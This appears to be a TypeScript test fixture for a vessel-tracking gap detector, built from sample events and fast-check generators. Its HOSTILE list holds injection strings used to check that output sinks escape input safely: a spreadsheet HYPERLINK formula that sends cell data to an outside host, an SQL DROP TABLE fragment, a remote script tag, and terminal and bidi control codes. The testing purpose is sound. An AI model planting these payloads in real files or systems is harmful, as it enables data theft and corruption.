// Events for the sinks: one that looks like a real gap, and any event at all.

import fc from 'fast-check'
import {
  FEED_EVENT_TYPES,
  VESSEL_EVENT_TYPES,
  type DarkEvent,
  type FeedEvent,
  type Fix,
  type VesselEvent,
  type ZoneRef,
} from '../../src/model/event.js'
import { TX_CLASSES } from '../../src/model/report.js'

export const taiwan: ZoneRef = {
  id: 'eez-8321',
  name: 'Taiwan',
  kind: 'eez',
  mrgid: 8321,
  sovereigns: ['TWN'],
  method: 'approximate',
  weight: 1,
}

export function gapEvent(over: Partial<VesselEvent> = {}): VesselEvent {
  const off = { t: Date.UTC(2018, 11, 25, 11, 40, 42), lat: -16.225, lon: -130.386 }
  const on = { t: Date.UTC(2018, 11, 26, 4, 25, 31), lat: -16.1842251234, lon: -131.4787454321 }
  return {
    schema: 'darkwake/event/1',
    type: 'gap',
    id: `gap-416000301-${off.t}`,
    phase: 'closed',
    revision: 2,
    asOf: on.t,
    mmsi: 416000301,
    track: 1,
    vessel: { name: 'LONG RUN 7', imo: null, callsign: 'BH3301', flag: 'TWN', shipType: 30, txClass: 'A' },
    start: off,
    end: on,
    durationS: 60_289,
    zones: { start: [taiwan], end: [], touched: [] },
    score: 0.873_456_789,
    evidence: [
      {
        family: 'silence',
        name: 'duration_h',
        value: 16.746_944,
        expected: '< 6',
        weight: 1.8,
        text: 'silent for 16.7 h',
      },
    ],
    details: { off, on, distanceM: 117_032.123_456_7, impliedSpeedKn: 3.773_456_78, state: 'under_way' },
    ...over,
  }
}

export const openGap = (over: Partial<VesselEvent> = {}): VesselEvent =>
  gapEvent({ phase: 'opened', revision: 1, end: null, durationS: null, ...over })

/** A feed that was silent for three hours. */
export function outage(over: Partial<FeedEvent> = {}): FeedEvent {
  const t = Date.UTC(2024, 0, 15)
  const end = { t: t + 3 * 3_600_000, lat: null, lon: null }
  return {
    schema: 'darkwake/event/1',
    ...{ type: 'feed_outage', id: `feed_outage-terrestrial-${t}`, phase: 'closed', revision: 2, asOf: end.t },
    ...{ source: 'terrestrial', receiver: null, area: null, class: 'silent' },
    ...{ start: { t, lat: null, lon: null }, end, durationS: 10_800 },
    zones: { start: [], end: [], touched: [] },
    score: 0.9,
    evidence: [
      {
        ...{ family: 'reception', name: 'volume_share', value: 0, expected: '≥ 0.35', weight: 0 },
        text: 'nothing heard where 1,200 reports in ten minutes are usual',
      },
    ],
    details: { usualPer10Min: 1200 },
    ...over,
  }
}

/** Names as an attacker sends them. */
export const HOSTILE = [
  '=HYPERLINK("http://x/?"&A1,"OK")',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '"; DROP TABLE',
  'A,B;C',
  'LINE\nBREAK\r\nAND\u2028MORE\u0085',
  '\u001b[31mRED\u009b0m',
  '\u202eRAGE\u0000',
  '<SCRIPT SRC=//A.CO>',
  '\ud800half',
  "'already",
  '日本丸',
]

const text = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 30 }))
const time = fc.integer({ min: Date.UTC(1990), max: Date.UTC(2100) })
const lat = fc.double({ min: -90, max: 90, noNaN: true })
const lon = fc.oneof(
  fc.double({ min: -180, max: 180, noNaN: true }),
  fc.constantFrom(-180, 180, 179.9999999, -179.9999999),
)

export const anyFix: fc.Arbitrary<Fix> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.record(
      { t: time, lat, lon, receivers: fc.array(text, { minLength: 1, maxLength: 3 }) },
      { requiredKeys: ['t', 'lat', 'lon'] },
    ),
  },
  { weight: 1, arbitrary: fc.record({ t: time, lat: fc.constant(null), lon: fc.constant(null) }) },
)

const anyZone: fc.Arbitrary<ZoneRef> = fc.record({
  id: text,
  name: text,
  kind: fc.constantFrom('eez' as const, 'port' as const, 'user' as const),
  mrgid: fc.option(fc.nat(99_999)),
  sovereigns: fc.array(text, { maxLength: 2 }),
  method: fc.constantFrom('authoritative' as const, 'approximate' as const),
  weight: fc.constantFrom(1, 1 / 2, 1 / 3),
})

export const anyVesselEvent: fc.Arbitrary<VesselEvent> = fc
  .record({
    type: fc.constantFrom(...VESSEL_EVENT_TYPES),
    phase: fc.constantFrom('opened' as const, 'updated' as const, 'closed' as const),
    mmsi: fc.integer({ min: 1, max: 999_999_999 }),
    asOf: time,
    start: anyFix,
    end: fc.option(anyFix),
    class: fc.option(text),
    score: fc.double({ min: 0, max: 1, noNaN: true }),
    vessel: fc.record({
      name: fc.option(text),
      imo: fc.option(fc.nat(9_999_999)),
      callsign: fc.option(text),
      flag: fc.option(fc.constantFrom('TWN', 'NLD')),
      shipType: fc.option(fc.nat(99)),
      txClass: fc.constantFrom(...TX_CLASSES),
    }),
    zones: fc.record({
      start: fc.array(anyZone, { maxLength: 2 }),
      end: fc.array(anyZone, { maxLength: 2 }),
      touched: fc.array(anyZone, { maxLength: 1 }),
    }),
    reason: text,
    details: fc.dictionary(
      fc.string({ maxLength: 8 }),
      fc.oneof(text, fc.double({ min: -1e15, max: 1e15 }), fc.boolean(), fc.constant(null)),
      {
        maxKeys: 4,
      },
    ),
  })
  .map(({ reason, class: kind, ...rest }) => {
    const event: VesselEvent = {
      schema: 'darkwake/event/1',
      id: `${rest.type}-${rest.mmsi}-${rest.start.t}`,
      revision: 1,
      track: 1,
      durationS: rest.end ? Math.abs(rest.end.t - rest.start.t) / 1000 : null,
      evidence: [{ family: 'silence', name: 'n', value: reason, weight: -0.123_456, text: reason }],
      ...rest,
    }
    if (kind !== null) event.class = kind
    return event
  })

const anyFeedEvent: fc.Arbitrary<FeedEvent> = fc
  .record({
    type: fc.constantFrom(...FEED_EVENT_TYPES),
    source: fc.option(text),
    receiver: fc.option(text),
    area: fc.option(fc.record({ lat, lon, radiusM: fc.double({ min: 0, max: 1e7, noNaN: true }) })),
    t: time,
    lastedMs: fc.option(fc.nat(1e9)),
    reason: text,
  })
  .map(({ t, lastedMs, reason, ...rest }) =>
    outage({
      ...rest,
      id: `${rest.type}-${rest.receiver ?? rest.source}-${t}`,
      phase: lastedMs === null ? 'opened' : 'closed',
      start: { t, lat: null, lon: null },
      end: lastedMs === null ? null : { t: t + lastedMs, lat: null, lon: null },
      durationS: lastedMs === null ? null : lastedMs / 1000,
      evidence: [{ family: 'reception', name: 'n', value: reason, weight: 0, text: reason }],
    }),
  )

export const anyEvent: fc.Arbitrary<DarkEvent> = fc.oneof(
  { weight: 4, arbitrary: anyVesselEvent },
  { weight: 1, arbitrary: anyFeedEvent },
)
